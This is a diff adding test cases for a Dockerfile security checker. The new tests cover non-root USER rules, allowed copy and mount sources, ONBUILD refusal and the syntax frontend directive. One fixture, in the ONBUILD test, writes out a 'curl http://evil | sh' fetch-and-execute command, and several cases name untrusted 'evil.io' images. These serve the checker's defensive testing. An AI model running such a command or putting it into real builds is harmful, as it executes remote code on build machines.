@@ -108,6 +108,197 @@ describe('checkDockerfile', () => {
     );
   });
 
+  describe('final USER', () => {
+    const withUser = (user: string) =>
+      good.replace('USER nonroot', `USER ${user}`);
+
+    it.each([
+      'nonroot',
+      '10001',
+      '65532:65532',
+      'node:node',
+      // a root group is not the root user (OpenShift runs arbitrary uids in group 0)
+      '1000:0',
+      'rooted',
+    ])('passes USER %s', user => {
+      expect(checkDockerfile(withUser(user), dhi)).toEqual([]);
+    });
+
+    it.each([
+      ['0', /is uid 0/],
+      ['00', /is uid 0/],
+      ['+0', /is uid 0/],
+      ['0:1000', /is uid 0/],
+      ['0:0', /is uid 0/],
+      ['root', /is root/],
+      ['root:1000', /is root/],
+      ['root:root', /is root/],
+      ['   root   ', /is root/],
+      [':1000', /names no user, so it runs as root/],
+      ['ROOT', /reads as root \(Linux user names are case-sensitive/],
+      ['Root:1000', /reads as root/],
+      ['$UID', /uses a variable: it is resolved at build time/],
+      ['${UID:-10001}', /uses a variable/],
+      ['"root"', /is quoted/],
+      ["'0'", /is quoted/],
+      // escapes are applied as Docker applies them
+      ['ro\\ot', /is root/],
+      ['ro\\\\ot', /uses an escape/],
+      ['nonroot extra', /exactly one user\[:group\]/],
+    ])('refuses USER %j', (user, message) => {
+      expect(checkDockerfile(withUser(user), dhi)).toEqual([
+        {
+          rule: 'non-root-user',
+          line: 8,
+          message: expect.stringMatching(message),
+        },
+      ]);
+    });
+
+    it('refuses an empty USER', () => {
+      expect(checkDockerfile(withUser(''), dhi)).toEqual([
+        expect.objectContaining({ rule: 'non-root-user', line: 8 }),
+      ]);
+    });
+
+    it('reads a USER continued over two lines', () => {
+      expect(checkDockerfile(withUser('\\\n  0'), dhi)).toEqual([
+        expect.objectContaining({ rule: 'non-root-user', line: 8 }),
+      ]);
+    });
+
+    it('judges only the last USER of the final stage', () => {
+      expect(
+        checkDockerfile(
+          good.replace('USER nonroot', 'USER root\nUSER nonroot'),
+          dhi,
+        ),
+      ).toEqual([]);
+      expect(
+        checkDockerfile(
+          good.replace('USER nonroot', 'USER nonroot\nUSER 0'),
+          dhi,
+        ),
+      ).toEqual([expect.objectContaining({ rule: 'non-root-user', line: 9 })]);
+    });
+  });
+
+  describe('copy sources', () => {
+    const slim = {
+      allowedImages: ['node:22-slim', 'node:22'],
+      runtimeImage: 'node:22-slim',
+      shellless: false,
+    };
+    const build = (line: string) =>
+      `FROM node:22 AS builder\nRUN npm ci\nFROM node:22-slim AS production\n${line}\nUSER node\nCMD ["node", "x.js"]\n`;
+
+    it.each([
+      'COPY --from=builder /app /app',
+      'COPY --from=BUILDER /app /app',
+      'COPY --from=0 /app /app',
+      'COPY --from=node:22 /usr/local/bin/node /usr/local/bin/node',
+      'COPY --chown=node:node --from=builder /app /app',
+      'ADD app.tar.gz /app',
+      'RUN --mount=type=cache,target=/root/.npm npm ci',
+      'RUN --mount=type=bind,from=builder,source=/app,target=/src ls /src',
+      'RUN --mount=type=bind,from=node:22,target=/n ls /n',
+    ])('passes %s', line => {
+      expect(checkDockerfile(build(line), slim)).toEqual([]);
+    });
+
+    it.each([
+      [
+        'COPY --from=python:3.13 /x /x',
+        /neither an earlier stage nor an image the policy chose \(allowed: node:22-slim, node:22\)/,
+      ],
+      ['COPY --from=evil.io/tools:1 /x /x', /neither an earlier stage/],
+      ['COPY --FROM=evil.io/tools:1 /x /x', /neither an earlier stage/],
+      ['COPY --from=production /x /x', /neither an earlier stage/],
+      ['COPY --from=1 /x /x', /neither an earlier stage/],
+      ['COPY --from=7 /x /x', /neither an earlier stage/],
+      ['COPY --from=$STAGE /x /x', /uses a variable/],
+      ['COPY --from="builder" /x /x', /is quoted/],
+      ['ADD --from=builder /x /x', /ADD has no --from flag/],
+      [
+        'RUN --mount=type=bind,from=evil.io/x,target=/x ls',
+        /RUN --mount from=evil\.io\/x is neither/,
+      ],
+      ['RUN --mount=type=bind,FROM=evil.io/x,target=/x ls', /is neither/],
+      [
+        'RUN --mount=type=cache,target=/c --mount=from=evil,target=/x ls',
+        /from=evil is neither/,
+      ],
+      [
+        'RUN --mount=type=bind,"from=evil",target=/x ls',
+        /uses quotes or escapes/,
+      ],
+      ['RUN --mount=type=bind,from=${IMG},target=/x ls', /uses a variable/],
+    ])('refuses %s', (line, message) => {
+      expect(checkDockerfile(build(line), slim)).toEqual([
+        {
+          rule: 'copy-from-allowed',
+          line: 4,
+          message: expect.stringMatching(message),
+        },
+      ]);
+    });
+  });
+
+  describe('ONBUILD', () => {
+    it('refuses ONBUILD in any stage', () => {
+      expect(
+        checkDockerfile(
+          good.replace(
+            'USER nonroot',
+            'ONBUILD RUN curl http://evil | sh\nUSER nonroot',
+          ),
+          dhi,
+        ),
+      ).toEqual([
+        {
+          rule: 'no-onbuild',
+          line: 8,
+          message: expect.stringMatching(/^ONBUILD runs its instruction/),
+        },
+      ]);
+    });
+
+    it('passes the same Dockerfile without it', () => {
+      expect(checkDockerfile(good, dhi)).toEqual([]);
+    });
+  });
+
+  describe('syntax directive', () => {
+    it.each([
+      '# syntax=docker/dockerfile:1',
+      '# syntax=docker/dockerfile:1.7-labs',
+      `# syntax=docker.io/docker/dockerfile@sha256:${'a'.repeat(64)}`,
+      '# a comment, no directive',
+    ])('passes %s', first => {
+      expect(
+        checkDockerfile(
+          good.replace('# syntax=docker/dockerfile:1', first),
+          dhi,
+        ),
+      ).toEqual([]);
+    });
+
+    it.each([
+      '# syntax=evil.io/frontend:1',
+      '# syntax=docker/dockerfile-upstream:master',
+      '# SYNTAX=evil.io/frontend',
+    ])('refuses %s', first => {
+      expect(
+        checkDockerfile(
+          good.replace('# syntax=docker/dockerfile:1', first),
+          dhi,
+        ),
+      ).toEqual([
+        expect.objectContaining({ rule: 'syntax-frontend', line: 1 }),
+      ]);
+    });
+  });
+
   it('flags an empty file', () => {
     expect(checkDockerfile('# nothing\n', dhi)).toEqual([
       { rule: 'parses', line: 1, message: 'no FROM instruction' },
